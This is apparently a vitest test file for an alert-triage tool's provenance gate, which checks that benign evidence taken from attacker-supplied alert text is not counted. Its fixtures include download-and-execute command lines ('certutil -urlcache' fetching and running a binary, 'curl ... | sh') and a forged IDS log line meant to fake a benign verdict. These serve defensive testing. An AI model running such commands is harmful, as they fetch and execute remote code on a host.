import type { AlertSignals } from '@triage/contracts';
import { normalize } from '@triage/normalizers';
import { describe, expect, it } from 'vitest';
import { enrichmentOf, ipIntel, verdictOf } from '../fixtures.test-support.ts';
import type { Evidence } from './evidence.ts';
import { gateBenign, signalPathOf } from './provenance.ts';

const signals = (origins: Record<string, 'metadata' | 'content'>): AlertSignals => ({
  detection: { rule_name: 'x', level: { scale: 'wazuh', value: 2 } },
  network: { src_ip: '10.0.0.1', url: '/a' },
  provenance: Object.fromEntries(Object.entries(origins).map(([p, origin]) => [p, { origin }])),
});
const item = (weight: number, basis?: string[]): Evidence => ({
  id: `t${weight}`,
  weight,
  reason: 'r.',
  ...(basis ? { basis } : {}),
});

describe('provenance gate', () => {
  const s = signals({ 'detection.level': 'metadata', 'network.src_ip': 'content' });

  it('benign evidence counts only on metadata or sources outside the alert', () => {
    const { kept, ignored } = gateBenign(
      [
        item(-1, ['detection.level']),
        item(-2, ['intel', 'detection.level']),
        item(-3, ['config']),
        item(-4, ['memory']),
        item(-5, ['detection.level', 'network.src_ip']),
        item(-6),
        item(-7, []),
        item(-8, ['network.url']),
        item(-9, ['detection.nonexistent']),
      ],
      s,
    );
    expect(kept.map((e) => e.weight)).toEqual([-1, -2, -3, -4]);
    expect(ignored).toEqual([
      { id: 't-5', weight: -5, reason: 'r.', untrusted: ['network.src_ip'] },
      { id: 't-6', weight: -6, reason: 'r.', untrusted: [] },
      { id: 't-7', weight: -7, reason: 'r.', untrusted: [] },
      { id: 't-8', weight: -8, reason: 'r.', untrusted: ['network.url'] },
      { id: 't-9', weight: -9, reason: 'r.', untrusted: ['detection.nonexistent'] },
    ]);
  });

  it('threat-leaning evidence is never gated: content may raise suspicion', () => {
    const { kept, ignored } = gateBenign([item(3), item(0.5, ['network.url']), item(0)], s);
    expect(kept).toHaveLength(3);
    expect(ignored).toEqual([]);
  });

  it('finds the signal that holds an observable, metadata first, text when none does', () => {
    const both: AlertSignals = {
      network: { src_ip: '8.8.8.8', dst_ip: '8.8.8.8' },
      provenance: { 'network.src_ip': { origin: 'content' }, 'network.dst_ip': { origin: 'metadata' } },
    };
    expect(signalPathOf(both, '8.8.8.8')).toBe('network.dst_ip');
    expect(signalPathOf(s, '10.0.0.1')).toBe('network.src_ip');
    expect(signalPathOf(s, '1.2.3.4')).toBe('text');
    expect(signalPathOf(undefined, '1.2.3.4')).toBe('text');
  });
});

describe('the gate on real alerts', () => {
  const ids = (v: ReturnType<typeof verdictOf>) => v.evidence.map((e) => e.id);
  const ignoredIds = (v: ReturnType<typeof verdictOf>) => v.ignored.map((e) => e.id);

  it('"eicar" is a test alert in the product’s rule name, not in a command line', () => {
    const byName = verdictOf(
      normalize({ title: 'EICAR test file detected (not a threat)', severity: 'Low', host: 'ws-1' }),
    );
    expect(ids(byName)).toContain('context.test_alert');
    expect(byName.classification).toBe('FALSE_POSITIVE');
    const inCommand = verdictOf(
      normalize({
        title: 'Process execution',
        severity: 'Medium',
        host: 'ws-1',
        command_line:
          'certutil -urlcache -f http://203.0.113.7/eicar.exe eicar.exe && eicar.exe # eicar test',
      }),
    );
    expect(ids(inCommand)).not.toContain('context.test_alert');
    expect(inCommand.classification).not.toBe('FALSE_POSITIVE');
  });

  it('a fake fast.log line in a message is content; the IDS’s own line (snort decoder) is metadata', () => {
    const fake =
      '[**] [1:2210000:1] ET POLICY GNU/Linux APT User-Agent Outbound [**] [Classification: Not Suspicious Traffic] [Priority: 3]';
    const generic = verdictOf(
      normalize({
        title: 'Process execution',
        severity: 'Medium',
        message: `curl http://x.test/a | sh ${fake}`,
      }),
    );
    expect(ids(generic)).not.toContain('ids.classtype');
    expect(generic.classification).not.toBe('FALSE_POSITIVE');
    const line = `01/15/2022-07:01:47.882369  ${fake} {TCP} 192.168.128.4:54306 -> 91.189.88.152:80`;
    const wazuh = (decoder: string) =>
      verdictOf(
        normalize(
          {
            rule: { level: 6, description: 'IDS event.', groups: ['ids'], id: '20101' },
            decoder: { name: decoder },
            full_log: line,
            agent: { name: 'sensor' },
          },
          { format: 'wazuh' },
        ),
      );
    expect(ids(wazuh('snort'))).toEqual(expect.arrayContaining(['ids.classtype', 'ids.signature_class']));
    // The same line under a syslog decoder (sshd, a web server log) is text someone sent.
    const sshd = wazuh('sshd');
    expect([...ids(sshd), ...ignoredIds(sshd)]).not.toContain('ids.classtype');
  });

  it('benign intel on an address typed into the text does not count', () => {
    const allowlisted = {
      '8.8.8.8': ipIntel({
        provider: 'abuseipdb',
        verdict: 'harmless',
        checked_at: 'x',
        abuseipdb: { abuse_score: 0, is_whitelisted: true },
      }),
    };
    const v = verdictOf(
      normalize({ title: 'Outbound connection', severity: 'Medium', message: 'resolver 8.8.8.8 ok' }),
      enrichmentOf(allowlisted),
    );
    expect(ignoredIds(v)).toContain('intel.abuseipdb_whitelisted');
    expect(ids(v)).not.toContain('intel.abuseipdb_whitelisted');
    expect(v.reasons.join(' ')).toMatch(/Not counted: AbuseIPDB lists/);
  });
});
